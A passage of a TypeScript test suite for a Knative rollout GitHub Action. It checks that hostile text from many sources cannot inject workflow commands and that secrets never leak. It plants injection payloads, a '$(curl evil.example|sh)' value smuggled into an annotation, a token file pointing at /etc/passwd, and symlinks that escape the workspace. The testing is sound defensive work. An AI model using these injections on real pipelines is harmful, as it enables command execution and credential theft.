// The hostile catalogue, end to end (issue 11): one row per source of text the action did not
// write and per path a secret could take, each run through the built action (dist/index.js,
// test/helpers/dist-run.ts) against the emulator, with a GitHub stand-in for the PR comment
// and the Deployment. Every row is scanned on every channel: stdout and stderr as the runner
// reads them (test/helpers/workflow-commands.ts: no planted line is a command), the outputs
// ($GITHUB_OUTPUT: one line each, revision names DNS-1035 labels), the job summary, the
// post-step state, the Service's rollout.knative-rollout.dev/* annotations and every object
// version stored, and what was sent to GitHub (no secret; no @mention or link from untrusted
// text in a PR comment). A row also says what it must show, so that it reached its source.

import { randomBytes } from 'node:crypto'
import { chmodSync, readFileSync } from 'node:fs'
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { stringify } from 'yaml'
import { createServingClient } from '../../src/knative/client.js'
import { wallClock } from '../../src/clock.js'
import { STATE_PREFIX } from '../../src/rollout/state.js'
import { bareRepo, git, type BareRepo } from '../helpers/bare-repo.js'
import { withEmulator } from '../helpers/emulator.js'
import { runAction, type DistRun } from '../helpers/dist-run.js'
import { parseFileCommands } from '../helpers/file-commands.js'
import { startGitHubServer, type FakeGitHub } from '../helpers/github-server.js'
import { memoryLogger } from '../helpers/memory-logger.js'
import { serviceYaml } from '../helpers/service-yaml.js'
import { plantedCommands, workflowCommands } from '../helpers/workflow-commands.js'

/** The lines planted, each as the runner would read it at a line start. */
const PAYLOADS = [
  '::error title=Deployed OK::PWNED',
  '::add-mask::PWNED',
  '::stop-commands::PWNED',
  '##[error]PWNED'
]
/** Every payload on its own line, after ordinary text, with LF, CRLF and CR. */
const HOSTILE = `crashed\n${PAYLOADS[0]}\r\n${PAYLOADS[1]}\r${PAYLOADS[2]}\n  ${PAYLOADS[3]}`
/** What an app could write to ping people or plant a link in the PR comment. */
const MENTION = '@acme/admins see https://evil.example/login'
const hex = () => randomBytes(12).toString('hex')
const SECRET = {
  kubeUrlPassword: `kube-url-pw-${hex()}`,
  badHeaderToken: [`tok-one-${hex()}`, `tok-two-${hex()}`],
  webhookPassword: `hook-pw-${hex()}`,
  prometheusUrlPassword: `prom-url-pw-${hex()}`,
  multiLine: [`prom-line-one-${hex()}`, `prom-line-two-${hex()}`],
  promToken: `prom-token-${hex()}`,
  registryPassword: `registry-pw-${hex()}`,
  realmPassword: `realm-pw-${hex()}`,
  outsideFile: `AWS_SECRET_ACCESS_KEY=${hex()}`,
  gitToken: `ghs_${hex()}`
}
const METRICS = '- name: request-success-rate\n  thresholdRange: {min: 99}\n'
const FAST = { steps: '20,100', 'step-interval': '2s', 'probe-rps': '20', timeout: '2m' }
const GITHUB_TOKEN = `ghp_${hex()}`

/** A YAML double-quoted scalar: newlines as `\n`. */
const yamlQuoted = (text: string) =>
  text.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\r/g, '\\r').replace(/\n/g, '\\n')

interface Ctx {
  /** The emulator's own kubeconfig (content). */
  kubeconfig: string
  ingress: string
  apiUrl: string
  /** The hostile HTTP server (webhooks, Prometheus, an API server), its base URL. */
  hostile: string
  /** Registries that refuse: Basic (echoing the header), Bearer with a credentialed realm. */
  basicRegistry: string
  bearerRegistry: string
  closedPort: number
  workspace: string
  /** Writes a file in the workspace; returns its path. */
  file(name: string, content: string): Promise<string>
  /** A first deploy of `service` through the built action. */
  deploy(service: string): Promise<void>
  /** Sets state annotations on `service` as someone else (kubectl annotate would). */
  annotate(service: string, annotations: Record<string, string>): Promise<void>
  /** The Service's spec.traffic entries with a share: `revision percent`. */
  shares(service: string): string[]
  /** A first deploy of `service`, then a rollout of v2 paused at 20%. */
  pause(service: string): Promise<void>
  /** Scripts standing in for tools: `buildah` (on PATH) and a gcp auth-provider's command. */
  bin: string
  authProvider: string
}

interface Row {
  name: string
  /** The class of issue 11 this row stands for. */
  source: string
  service: string
  inputs(ctx: Ctx): Promise<Record<string, string>>
  env?: (ctx: Ctx) => Record<string, string>
  /** Secret values (and the derived forms) that must appear nowhere. */
  secrets?: string[]
  /** What the run must show (stdout, stderr or the summary): proof it met its source. */
  shows: RegExp
  /** The GitHub stand-in answers every request with this status and error message. */
  github?: { failWith: number; message: string }
  /** What else the row must find once the run ended (the cluster it left). */
  after?: (ctx: Ctx) => void
}

/** A Prometheus-backed rollout of `service` to v2 against `path` on the hostile server. */
const promRollout =
  (service: string, path: string, credentials: Record<string, string> = {}) =>
  async (c: Ctx) => {
    await c.deploy(service)
    return {
      ...FAST,
      manifest: await c.file(
        `${service}-v2.yaml`,
        serviceYaml(service, `ghcr.io/acme/${service}:2`)
      ),
      'revision-name': `${service}-v2`,
      'ingress-address': c.ingress,
      'prometheus-url': `${c.hostile}${path}`,
      metrics: METRICS,
      ...credentials
    }
  }

/** A rollout of `service` to v2 (after a first deploy) with `extra` inputs. */
const rolloutV2 =
  (service: string, extra: (c: Ctx) => Record<string, string> = () => ({}), env = {}) =>
  async (c: Ctx) => {
    await c.deploy(service)
    return {
      ...FAST,
      manifest: await c.file(
        `${service}-v2.yaml`,
        serviceYaml(service, `ghcr.io/acme/${service}:2`, env)
      ),
      'revision-name': `${service}-v2`,
      'ingress-address': c.ingress,
      ...extra(c)
    }
  }

/** A manifest with `field` replaced by hostile text; refused before any write. */
const hostileManifest = (service: string, yaml: string) => async (c: Ctx) => ({
  manifest: await c.file(`${service}.yaml`, yaml),
  'ingress-address': c.ingress
})

/** Kubeconfig content pointing at `server` with `user`. */
const kubeconfigWith = (server: string, user: Record<string, unknown>) =>
  stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'c', cluster: { server, 'insecure-skip-tls-verify': true } }],
    users: [{ name: 'u', user }],
    contexts: [{ name: 'c', context: { cluster: 'c', user: 'u' } }],
    'current-context': 'c'
  })

const exitPlugin = (script: string) => ({
  exec: {
    apiVersion: 'client.authentication.k8s.io/v1',
    command: process.execPath,
    args: ['-e', script],
    interactiveMode: 'Never'
  }
})

/** A registry build of `service`: the registry check refuses before anything is built. */
const registryBuild = (service: string, registry: (c: Ctx) => string) => async (c: Ctx) => ({
  service,
  'build-context': 'test/fixtures/build/hello',
  image: `${registry(c)}/acme/${service}`,
  registry: registry(c),
  'registry-username': 'ci-bot',
  'registry-password': SECRET.registryPassword,
  'registry-insecure': 'true'
})

const basic = (user: string, password: string) =>
  Buffer.from(`${user}:${password}`).toString('base64')

const ROWS: Row[] = [
  // ---- 1. untrusted text: a line planted from each source never becomes a command --------
  {
    name: "an app's termination message, with an @mention and a link for the PR comment",
    source: 'app termination message; PR comment @mentions and links',
    service: 'exitmsg',
    inputs: rolloutV2('exitmsg', () => ({}), {
      EMULATOR_EXIT_CODE: '1',
      EMULATOR_EXIT_MESSAGE: yamlQuoted(`${HOSTILE}\n${MENTION}`)
    }),
    shows: /crashed\\n::error title=Deployed OK::PWNED/
  },
  {
    name: "a pre-rollout webhook's answer",
    source: 'webhook response body',
    service: 'prehook',
    inputs: rolloutV2('prehook', (c) => ({
      webhooks: `- name: gate\n  type: pre-rollout\n  url: ${c.hostile}/hook\n  retries: 0\n  timeout: 2s\n`
    })),
    shows: /PWNED/
  },
  {
    name: "a rollout webhook's answer during a step",
    source: 'webhook response body',
    service: 'stephook',
    inputs: rolloutV2('stephook', (c) => ({
      webhooks: `- name: check\n  type: rollout\n  url: ${c.hostile}/hook\n  retries: 0\n  timeout: 2s\n`
    })),
    shows: /PWNED/
  },
  {
    name: "a confirm-promotion gate's answer",
    source: 'webhook response body',
    service: 'gatehook',
    inputs: rolloutV2('gatehook', (c) => ({
      webhooks: `- name: confirm\n  type: confirm-promotion\n  url: ${c.hostile}/hook\n  retries: 0\n  timeout: 2s\n`,
      timeout: '20s' // a gate that never confirms waits for the run's timeout
    })),
    shows: /confirm-promotion gate "confirm" is closed/
  },
  {
    name: "Prometheus' JSON error field",
    source: 'Prometheus error field',
    service: 'promjson',
    inputs: promRollout('promjson', '/prom-json'),
    shows: /PWNED/
  },
  {
    name: 'a text body from what stands in front of Prometheus',
    source: 'Prometheus error field',
    service: 'promtext',
    inputs: promRollout('promtext', '/prom-text'),
    shows: /refused the query: HTTP 503/
  },
  {
    name: "a kubeconfig exec plugin's stderr",
    source: 'kubeconfig exec plugin stderr',
    service: 'plugin',
    inputs: async (c) => ({
      service: 'plugin',
      image: 'ghcr.io/acme/plugin:1',
      kubeconfig: kubeconfigWith(
        c.apiUrl,
        // Decoded by the plugin: the kubeconfig (a secret, masked line by line) holds no payload.
        exitPlugin(
          `process.stderr.write(Buffer.from('${Buffer.from(HOSTILE).toString('base64')}', 'base64').toString()); process.exit(1)`
        )
      )
    }),
    shows: /credential plugin "node"/
  },
  {
    name: 'state annotations planted before a rollout',
    source: "the Service's own rollout.knative-rollout.dev/* annotations",
    service: 'annrollout',
    inputs: async (c) => {
      const inputs = await rolloutV2('annrollout')(c)
      await c.annotate('annrollout', {
        [`${STATE_PREFIX}phase`]: 'rolled-back',
        [`${STATE_PREFIX}reason`]: HOSTILE,
        [`${STATE_PREFIX}candidate`]: `annrollout-v9\n${PAYLOADS[0]}`,
        [`${STATE_PREFIX}history`]: JSON.stringify([{ at: 1, event: HOSTILE }])
      })
      return inputs
    },
    shows: /annrollout/
  },
  {
    name: 'a lease held by a hostile holder, broken by abort with force',
    source: "the Service's own rollout.knative-rollout.dev/* annotations",
    service: 'annabort',
    inputs: async (c) => {
      await c.deploy('annabort')
      await c.annotate('annabort', {
        [`${STATE_PREFIX}phase`]: 'paused',
        [`${STATE_PREFIX}candidate`]: 'annabort-v1',
        [`${STATE_PREFIX}lease`]: JSON.stringify({
          holder: HOSTILE,
          renewedAt: Date.now(),
          durationSeconds: 600
        })
      })
      return { command: 'abort', service: 'annabort', force: 'true' }
    },
    shows: /annabort/
  },
  {
    name: 'a hostile candidate name read back by promote',
    source: "the Service's own rollout.knative-rollout.dev/* annotations",
    service: 'annpromote',
    inputs: async (c) => {
      await c.deploy('annpromote')
      await c.annotate('annpromote', {
        [`${STATE_PREFIX}phase`]: 'paused',
        [`${STATE_PREFIX}candidate`]: `annpromote-v2\n${PAYLOADS[0]}`,
        [`${STATE_PREFIX}reason`]: HOSTILE
      })
      return { command: 'promote', service: 'annpromote', 'ingress-address': c.ingress }
    },
    shows: /annpromote/
  },
  {
    name: 'hostile state read by status',
    source: "the Service's own rollout.knative-rollout.dev/* annotations",
    service: 'annstatus',
    inputs: async (c) => {
      await c.deploy('annstatus')
      await c.annotate('annstatus', {
        [`${STATE_PREFIX}phase`]: 'rolled-back',
        [`${STATE_PREFIX}reason`]: HOSTILE,
        [`${STATE_PREFIX}candidate`]: `annstatus-v2\n${PAYLOADS[0]}`,
        [`${STATE_PREFIX}history`]: JSON.stringify([{ at: 1, event: HOSTILE }])
      })
      return { command: 'status', service: 'annstatus' }
    },
    shows: /PWNED/
  },
  {
    name: "a manifest's kind",
    source: "a manifest's kind",
    service: 'kind',
    inputs: hostileManifest(
      'kind',
      `apiVersion: serving.knative.dev/v1\nkind: "${yamlQuoted(HOSTILE)}"\nmetadata: {name: kind}\nspec: {}\n`
    ),
    shows: /PWNED/
  },
  {
    name: "a manifest's apiVersion",
    source: "a manifest's kind",
    service: 'apiversion',
    inputs: hostileManifest(
      'apiversion',
      `apiVersion: "${yamlQuoted(HOSTILE)}"\nkind: Service\nmetadata: {name: apiversion}\nspec: {}\n`
    ),
    shows: /PWNED/
  },
  {
    name: "a manifest's metadata.name",
    source: "a manifest's kind",
    service: 'badname',
    inputs: hostileManifest(
      'badname',
      `apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata: {name: "${yamlQuoted(HOSTILE)}"}\nspec: {template: {spec: {containers: [{image: ghcr.io/acme/x:1}]}}}\n`
    ),
    shows: /metadata\.name/
  },
  {
    name: 'a YAML error on a line that plants a command',
    source: 'YAML error snippet',
    service: 'yamlerr',
    inputs: hostileManifest(
      'yamlerr',
      `apiVersion: serving.knative.dev/v1\nkind: Service\n${PAYLOADS[0]}: [\n${PAYLOADS[2]}\n`
    ),
    shows: /yamlerr\.yaml/
  },
  {
    name: 'an API server whose Status message plants commands',
    source: 'client-node errors quoting input',
    service: 'kubestatus',
    inputs: async (c) => ({
      service: 'kubestatus',
      image: 'ghcr.io/acme/kubestatus:1',
      kubeconfig: kubeconfigWith(`${c.hostile}/kube`, { token: 'x' })
    }),
    shows: /403/
  },
  {
    name: 'the API server warnings on the dry-run write, for a field named to plant a command',
    source: 'client-node errors quoting input (API server warnings)',
    service: 'warned',
    inputs: async (c) => ({
      manifest: await c.file(
        'warned.yaml',
        `apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata: {name: warned}\nspec:\n  template:\n    spec:\n      containers:\n        - image: ghcr.io/acme/warned:1\n          "x\\n${PAYLOADS[0]}": 1\n`
      ),
      'ingress-address': c.ingress
    }),
    shows: /Kubernetes API server warn/
  },
  {
    name: 'a git remote whose hook refuses the write-back push with planted lines',
    source: 'git output in git mode',
    service: 'gitout',
    inputs: async () => ({}), // set up in the test (it needs a repository of its own)
    shows: /PWNED/
  },
  {
    name: 'a hostile image annotation read by status',
    source: "the Service's own rollout.knative-rollout.dev/* annotations",
    service: 'annimage',
    inputs: async (c) => {
      await c.deploy('annimage')
      await c.annotate('annimage', {
        [`${STATE_PREFIX}phase`]: 'rolled-back',
        [`${STATE_PREFIX}current`]: 'annimage-v1',
        [`${STATE_PREFIX}image`]: `ghcr.io/acme/annimage:1$(curl evil.example|sh)\n${PAYLOADS[0]}`
      })
      return { command: 'status', service: 'annimage' }
    },
    shows: /image is not an image reference; read as none/
  },
  {
    name: 'abort with a garbled candidate annotation still takes the candidate to 0%',
    source: "the Service's own rollout.knative-rollout.dev/* annotations",
    service: 'anngarbled',
    inputs: async (c) => {
      await c.pause('anngarbled')
      await c.annotate('anngarbled', {
        [`${STATE_PREFIX}candidate`]: `anngarbled-v2\n${PAYLOADS[0]}`
      })
      return { command: 'abort', service: 'anngarbled' }
    },
    shows: /its traffic gives anngarbled-v2 20%(25)?: aborting that split/,
    after: (c) => expect(c.shares('anngarbled')).toEqual(['anngarbled-v1 100'])
  },
  {
    name: "a gcp auth-provider command's stderr",
    source: 'kubeconfig auth-provider stderr',
    service: 'provider',
    inputs: async (c) => ({
      service: 'provider',
      image: 'ghcr.io/acme/provider:1',
      kubeconfig: kubeconfigWith(c.apiUrl, {
        'auth-provider': {
          name: 'gcp',
          config: { 'cmd-path': c.authProvider, 'token-key': '{.token}', 'expiry-key': '{.expiry}' }
        }
      })
    }),
    shows: /credential plugin "auth-provider"/
  },
  {
    name: "a builder's output (buildah prints the planted lines and fails)",
    source: 'build tool output (buildah, docker)',
    service: 'built',
    inputs: async (c) => ({
      service: 'built',
      'build-context': 'test/fixtures/build/hello',
      image: `127.0.0.1:${c.closedPort}/acme/built`,
      builder: 'buildah',
      'registry-insecure': 'true'
    }),
    env: (c) => ({ PATH: `${c.bin}:${process.env.PATH ?? '/usr/bin:/bin'}` }),
    shows: /buildah .*failed \(exit 1\)/
  },
  {
    name: "GitHub's error message for the Deployment and the PR comment",
    source: 'GitHub API error bodies',
    service: 'ghfail',
    inputs: rolloutV2('ghfail'),
    github: { failWith: 500, message: `${HOSTILE}\n${MENTION}` },
    shows: /GitHub deployment: GitHub API POST .* answered 500: crashed\\n/
  },
  // ---- 2. secrets: never printed, stored or sent, in any form ---------------------------
  {
    name: 'a kubeconfig server URL with user:password@ that cannot be reached',
    source: 'client-node/undici errors quoting input',
    service: 'kubeurl',
    inputs: async (c) => ({
      service: 'kubeurl',
      image: 'ghcr.io/acme/kubeurl:1',
      kubeconfig: kubeconfigWith(
        `http://admin:${SECRET.kubeUrlPassword}@127.0.0.1:${c.closedPort}`,
        {
          token: 'x'
        }
      )
    }),
    secrets: [SECRET.kubeUrlPassword],
    shows: /127\.0\.0\.1/
  },
  {
    name: 'a kubeconfig token that is not a valid header value',
    source: 'kubeconfig token invalid as header value',
    service: 'badtoken',
    inputs: async (c) => ({
      service: 'badtoken',
      image: 'ghcr.io/acme/badtoken:1',
      kubeconfig: kubeconfigWith(c.apiUrl, { token: SECRET.badHeaderToken.join('\n') })
    }),
    secrets: SECRET.badHeaderToken,
    shows: /./
  },
  {
    name: 'a kubeconfig tokenFile pointing at a system file',
    source: 'token-file pointing at a system file',
    service: 'tokenfile',
    inputs: async (c) => ({
      service: 'tokenfile',
      image: 'ghcr.io/acme/tokenfile:1',
      kubeconfig: kubeconfigWith(c.apiUrl, { tokenFile: '/etc/passwd' })
    }),
    secrets: readFileSync('/etc/passwd', 'utf8')
      .split('\n')
      .filter((l) => l.length >= 12),
    shows: /./
  },
  {
    name: 'a webhook URL with user:password@',
    source: 'webhook URL with user:password@',
    service: 'hookurl',
    inputs: rolloutV2('hookurl', (c) => ({
      webhooks: `- name: notify\n  type: rollback\n  url: http://bot:${SECRET.webhookPassword}@${new URL(c.hostile).host}/hook\n`
    })),
    secrets: [SECRET.webhookPassword, basic('bot', SECRET.webhookPassword)],
    shows: /webhooks/
  },
  {
    name: 'a prometheus-url with user:password@',
    source: 'webhook URL with user:password@ (any URL input)',
    service: 'promurl',
    inputs: async (c) => ({
      service: 'promurl',
      image: 'ghcr.io/acme/promurl:1',
      'prometheus-url': `http://reader:${SECRET.prometheusUrlPassword}@${new URL(c.hostile).host}/prom-json`,
      metrics: METRICS
    }),
    secrets: [SECRET.prometheusUrlPassword, basic('reader', SECRET.prometheusUrlPassword)],
    shows: /prometheus-url/
  },
  {
    name: 'Prometheus quotes the bearer token in its JSON error',
    source: 'Prometheus quoting Authorization in JSON error',
    service: 'promtoken',
    inputs: promRollout('promtoken', '/prom-json', { 'prometheus-token': SECRET.promToken }),
    secrets: [SECRET.promToken],
    shows: /Authorization: Bearer \*\*\*/
  },
  {
    name: 'Prometheus quotes basic auth (base64 of user:password) in a text body',
    source: 'basic-auth base64',
    service: 'prombasic',
    inputs: promRollout('prombasic', '/prom-text', {
      'prometheus-username': 'reader',
      'prometheus-password': SECRET.promToken
    }),
    secrets: [SECRET.promToken, basic('reader', SECRET.promToken)],
    shows: /refused the query: HTTP 503/
  },
  {
    name: 'a multi-line prometheus-password',
    source: 'multi-line secrets',
    service: 'multiline',
    inputs: promRollout('multiline', '/prom-json', {
      'prometheus-username': 'reader',
      'prometheus-password': SECRET.multiLine.join('\n')
    }),
    secrets: [...SECRET.multiLine, basic('reader', SECRET.multiLine.join('\n'))],
    shows: /./
  },
  {
    name: 'a registry that quotes the basic-auth header in its refusal',
    source: 'registry errors; basic-auth base64',
    service: 'regbasic',
    inputs: registryBuild('regbasic', (c) => c.basicRegistry),
    secrets: [SECRET.registryPassword, basic('ci-bot', SECRET.registryPassword)],
    shows: /ci-bot/
  },
  {
    name: 'a registry whose token realm carries credentials and quotes what it was sent',
    source: 'registry errors quoting input',
    service: 'regbearer',
    inputs: registryBuild('regbearer', (c) => c.bearerRegistry),
    secrets: [
      SECRET.registryPassword,
      SECRET.realmPassword,
      basic('ci-bot', SECRET.registryPassword)
    ],
    shows: /registry 127\.0\.0\.1:\d+: GET http:\/\/\*\*\*@/
  },
  {
    name: 'a manifest symlinked to a file outside the workspace',
    source: 'manifest symlink out of workspace',
    service: 'symfile',
    inputs: async (c) => ({ manifest: join(c.workspace, 'linked.yaml') }),
    secrets: [SECRET.outsideFile],
    shows: /resolves outside the workspace/
  },
  {
    name: 'a manifest under a directory symlinked outside the workspace',
    source: 'manifest symlink out of workspace',
    service: 'symdir',
    inputs: async (c) => ({ manifest: join(c.workspace, 'linked-dir', 'outside.yaml') }),
    secrets: [SECRET.outsideFile],
    shows: /resolves outside the workspace/
  },
  {
    name: 'a write-back remote URL holding a token, unreachable',
    source: 'git output in git mode (credentials in the remote URL)',
    service: 'gittoken',
    inputs: async () => ({}), // set up in the test
    secrets: [SECRET.gitToken],
    shows: /write-back/
  }
]

describe('the hostile catalogue through the built action', () => {
  const emulator = withEmulator()
  let github: FakeGitHub
  const servers: Server[] = []
  let dir: string
  const repos: BareRepo[] = []
  let ctx: Ctx
  let githubEnv: Record<string, string>
  /** Annotation values a row set itself (as someone else): the run may leave them as they are. */
  const planted = new Set<string>()

  const listen = async (handler: (req: IncomingMessage, res: ServerResponse) => void) => {
    const server = createServer(handler)
    servers.push(server)
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    return (server.address() as AddressInfo).port
  }

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'hostile-'))
    const workspace = join(dir, 'workspace')
    await mkdir(workspace)
    await writeFile(join(dir, 'environ'), `${SECRET.outsideFile}\n`)
    await mkdir(join(dir, 'outside'))
    await writeFile(join(dir, 'outside', 'outside.yaml'), `${SECRET.outsideFile}\n`)
    await symlink(join(dir, 'environ'), join(workspace, 'linked.yaml'))
    await symlink(join(dir, 'outside'), join(workspace, 'linked-dir'))
    await writeFile(join(dir, 'event.json'), JSON.stringify({ pull_request: { number: 7 } }))
    github = await startGitHubServer()
    const hostilePort = await listen((req, res) => {
      req.resume()
      const auth = req.headers.authorization ?? 'none'
      if (req.url!.startsWith('/prom-json'))
        return void res.writeHead(400, { 'content-type': 'application/json' }).end(
          JSON.stringify({
            status: 'error',
            errorType: 'bad_data',
            error: `${HOSTILE}\nheader rejected: Authorization: ${auth}`
          })
        )
      if (req.url!.startsWith('/prom-text'))
        return void res.writeHead(503).end(`${HOSTILE}\ninvalid credentials: ${auth}`)
      if (req.url!.startsWith('/kube'))
        return void res.writeHead(403, { 'content-type': 'application/json' }).end(
          JSON.stringify({
            kind: 'Status',
            apiVersion: 'v1',
            status: 'Failure',
            message: HOSTILE,
            reason: 'Forbidden',
            code: 403
          })
        )
      res.writeHead(500, { 'content-type': 'text/plain' }).end(HOSTILE)
    })
    // GET /v2/ asks for basic auth; the answer to it quotes the header it was given.
    const basicPort = await listen((req, res) => {
      req.resume()
      if (!req.headers.authorization)
        return void res.writeHead(401, { 'www-authenticate': 'Basic realm="r"' }).end()
      res.writeHead(401).end(`denied: ${req.headers.authorization}\n${HOSTILE}`)
    })
    let bearerPort = 0
    bearerPort = await listen((req, res) => {
      req.resume()
      if (req.url!.startsWith('/token'))
        return void res.writeHead(401).end(`denied: ${req.headers.authorization}\n${HOSTILE}`)
      res
        .writeHead(401, {
          'www-authenticate': `Bearer realm="http://bot:${SECRET.realmPassword}@127.0.0.1:${bearerPort}/token",service="r"`
        })
        .end()
    })
    const closedPort = await new Promise<number>((resolve) => {
      const s = createServer().listen(0, '127.0.0.1', () => {
        const port = (s.address() as AddressInfo).port
        s.close(() => resolve(port))
      })
    })
    // Stand-ins for tools that print the planted lines: Node scripts, so no shell quoting.
    const bin = join(dir, 'bin')
    await mkdir(bin)
    const printer = (extra: string) =>
      `#!${process.execPath}\n${extra}\nconst t = Buffer.from('${Buffer.from(HOSTILE).toString('base64')}', 'base64').toString()\nprocess.stdout.write(t + '\\n')\nprocess.stderr.write(t + '\\n')\nprocess.exit(1)\n`
    await writeFile(
      join(bin, 'buildah'),
      printer(
        "if (process.argv[2] === '--version') { console.log('buildah version 1.37.0'); process.exit(0) }"
      )
    )
    await writeFile(join(dir, 'auth-provider'), printer(''))
    chmodSync(join(bin, 'buildah'), 0o755)
    chmodSync(join(dir, 'auth-provider'), 0o755)
    const kubeconfig = readFileSync(emulator().kubeconfigPath, 'utf8')
    githubEnv = {
      GITHUB_API_URL: github.url,
      GITHUB_SERVER_URL: 'https://github.com',
      GITHUB_REPOSITORY: 'acme/shop',
      GITHUB_SHA: 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678',
      GITHUB_RUN_ID: '42',
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: join(dir, 'event.json'),
      GITHUB_WORKSPACE: workspace
    }
    ctx = {
      kubeconfig,
      ingress: emulator().ingressUrl,
      apiUrl: emulator().apiUrl,
      hostile: `http://127.0.0.1:${hostilePort}`,
      basicRegistry: `127.0.0.1:${basicPort}`,
      bearerRegistry: `127.0.0.1:${bearerPort}`,
      closedPort,
      workspace,
      bin,
      authProvider: join(dir, 'auth-provider'),
      shares(service) {
        const live = emulator().store.get('services.serving.knative.dev', 'default', service)
        const traffic = (live?.spec as { traffic?: { revisionName?: string; percent?: number }[] })
          ?.traffic
        return (traffic ?? []).filter((t) => t.percent).map((t) => `${t.revisionName} ${t.percent}`)
      },
      async pause(service) {
        await ctx.deploy(service)
        const run = await runAction(
          {
            ...FAST,
            kubeconfig,
            manifest: await ctx.file(
              `${service}-v2.yaml`,
              serviceYaml(service, `ghcr.io/acme/${service}:2`)
            ),
            'revision-name': `${service}-v2`,
            'ingress-address': emulator().ingressUrl,
            'pause-at': '20'
          },
          { env: { GITHUB_WORKSPACE: workspace } }
        )
        if (parseFileCommands(run.files.output).result !== 'paused')
          throw new Error(`pausing ${service}:\n${run.stdout}\n${run.stderr}`)
      },
      async file(name, content) {
        const path = join(workspace, name)
        await writeFile(path, content)
        return path
      },
      async deploy(service) {
        const run = await runAction(
          {
            kubeconfig,
            manifest: await ctx.file(
              `${service}-v1.yaml`,
              serviceYaml(service, `ghcr.io/acme/${service}:1`)
            ),
            'revision-name': `${service}-v1`
          },
          { env: { GITHUB_WORKSPACE: workspace } }
        )
        if (run.code !== 0)
          throw new Error(`first deploy of ${service}:\n${run.stdout}\n${run.stderr}`)
      },
      async annotate(service, annotations) {
        for (const value of Object.values(annotations)) planted.add(value)
        const client = createServingClient({ kubeconfig, clock: wallClock, log: memoryLogger() })
        await client.updateService('default', service, (svc) => ({
          ...svc,
          metadata: {
            ...svc.metadata,
            annotations: { ...svc.metadata.annotations, ...annotations }
          }
        }))
      }
    }
  }, 60_000)

  afterAll(async () => {
    await github?.close()
    await Promise.all(servers.map((s) => new Promise((resolve) => s.close(resolve))))
    for (const repo of repos) repo.remove()
    await rm(dir, { recursive: true, force: true })
  })

  /** The write-back rows: a checkout of a bare remote, made hostile as the row says. */
  async function gitRow(
    row: Row
  ): Promise<{ inputs: Record<string, string>; env: Record<string, string> }> {
    const path = `deploy/${row.service}.yaml`
    const repo = bareRepo({ [path]: serviceYaml(row.service, `ghcr.io/acme/${row.service}:1`) })
    repos.push(repo)
    const checkout = repo.clone('checkout')
    if (row.service === 'gitout') {
      // The remote's pre-receive hook refuses the push, printing the planted lines.
      const hook = join(repo.remote, 'hooks', 'pre-receive')
      await writeFile(hook, `#!/bin/sh\nprintf '%s\\n' ${JSON.stringify(HOSTILE)} >&2\nexit 1\n`)
      chmodSync(hook, 0o755)
    } else {
      git(
        checkout,
        'remote',
        'set-url',
        'origin',
        `http://x-access-token:${SECRET.gitToken}@127.0.0.1:${ctx.closedPort}/acme/shop.git`
      )
    }
    return {
      inputs: {
        ...FAST,
        manifest: join(checkout, path),
        'revision-name': `${row.service}-v1`,
        'ingress-address': ctx.ingress,
        'write-back': 'commit',
        'git-branch': 'main'
      },
      env: { GITHUB_WORKSPACE: checkout }
    }
  }

  test.each(ROWS.map((r) => [r.name, r] as const))(
    '%s',
    async (_name, row) => {
      const git = row.source.startsWith('git output') ? await gitRow(row) : undefined
      const inputs = git?.inputs ?? (await row.inputs(ctx))
      const before = github.requests.length
      github.failWith = row.github?.failWith
      github.failMessage = row.github?.message
      let run: DistRun
      try {
        run = await runAction(
          {
            kubeconfig: ctx.kubeconfig,
            'github-token': GITHUB_TOKEN,
            environment: 'production',
            ...inputs
          },
          { env: { ...githubEnv, ...git?.env, ...row.env?.(ctx) }, killAfterMs: 120_000 }
        )
      } finally {
        github.failWith = undefined
        github.failMessage = undefined
      }
      const printed = `${run.stdout}\n${run.stderr}`
      expect(run.code).not.toBe(-1) // it ended by itself
      // It met its source.
      expect(`${printed}\n${run.files.summary}`).toMatch(row.shows)

      // The runner reads no planted line as a command, and no mask or stop the text chose.
      expect(plantedCommands(printed, PAYLOADS)).toEqual([])
      const commands = workflowCommands(printed)
      expect(commands.filter((c) => c.name === 'stop-commands')).toEqual([])
      expect(commands.filter((c) => c.name === 'add-mask' && c.line.includes('PWNED'))).toEqual([])

      row.after?.(ctx)

      // Outputs: one line each, nothing a shell reads as more than a word outside the JSON
      // ones; a revision is a DNS-1035 label.
      const outputs = parseFileCommands(run.files.output)
      expect(outputs.result).toBeDefined()
      for (const [name, value] of Object.entries(outputs)) {
        expect([name, value]).not.toEqual([name, expect.stringMatching(/[\r\n]/)])
        if (name !== 'traffic' && name !== 'results')
          expect([name, value]).not.toEqual([name, expect.stringMatching(/[\s'"`$;()<>|&\\]/)])
        if (/revision$/.test(name) && value)
          expect([name, value]).toEqual([
            name,
            expect.stringMatching(/^[a-z]([-a-z0-9]*[a-z0-9])?$/)
          ])
      }
      // The summary never holds a raw line break inside a quoted reason (a line that is a command).
      expect(run.files.summary.split('\n').filter((l) => /^\s*(::|##\[)/.test(l))).toEqual([])

      // The state the run left on the Service: one escaped line per annotation.
      const live = emulator().store.get('services.serving.knative.dev', 'default', row.service)
      const state = Object.entries(live?.metadata.annotations ?? {}).filter(([k]) =>
        k.startsWith(STATE_PREFIX)
      )
      for (const [key, value] of state) {
        if (planted.has(value)) continue // the row's own, left as it was
        if (key === `${STATE_PREFIX}history`) {
          // JSON; an entry the run added is one line (a planted one may stay as it was).
          const events = JSON.parse(value) as { event?: string }[]
          const added = events.filter((e) => e.event !== HOSTILE)
          expect(added.filter((e) => /[\r\n]/.test(e.event ?? ''))).toEqual([])
        } else expect([key, value]).not.toEqual([key, expect.stringMatching(/[\r\n]/)])
      }

      // What went to GitHub: no @mention or link from untrusted text in a PR comment.
      const sent = github.requests.slice(before)
      for (const r of sent) {
        const body = (r.body as { body?: string } | undefined)?.body
        if (typeof body !== 'string') continue
